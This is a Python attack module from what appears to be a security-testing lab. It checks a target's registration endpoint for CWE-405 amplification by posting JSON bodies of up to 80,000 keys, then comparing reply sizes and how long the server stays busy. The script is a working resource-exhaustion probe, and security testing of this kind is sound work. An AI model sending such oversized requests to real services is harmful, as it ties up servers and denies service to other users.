"""Register with eighty thousand fields.

Exploits a server that reads whatever comes, and has something to say about each field: a request
costs the sender little and everyone else much.
Source: CWE-405 Asymmetric Resource Consumption (Amplification),
https://cwe.mitre.org/data/definitions/405.html
"""

import json

import httpx

from attacks.lab.attack import attack
from attacks.lab.clock import hashes_during
from attacks.lab.outcome import Outcome, Result, breakdown, got_in
from attacks.lab.target import Target

SIZES = {"10 KB of keys": 900, "1 MB of keys": 80_000}
TRIES = 3
WORK = 25  # cheap hashes: about a tenth of a second, in which the server does nothing else


@attack()
def run(target: Target) -> Outcome:
    """Send few and many, weigh the replies, and see for how long the server is busy with it."""
    target.enrol()
    answers = {}
    for name, count in SIZES.items():
        body = json.dumps({f"k{number}": 1 for number in range(count)}).encode()
        answers[name] = register(target, body)
        if len(answers[name].content) > len(body):
            return got_in(f"{name}: the reply is longer than the request")
    outcome = breakdown(answers)
    if outcome.result is not Result.REFUSED:
        return outcome
    if min(hashes_during(lambda: register(target, body)) for _ in range(TRIES)) > WORK:
        return got_in(f"{name}: everyone waits while the server reads them")
    return outcome


def register(target: Target, body: bytes) -> httpx.Response:
    """Send bytes as a registration."""
    headers = {"Content-Type": "application/json"}
    return target.http.post("/auth/register", content=body, headers=headers)
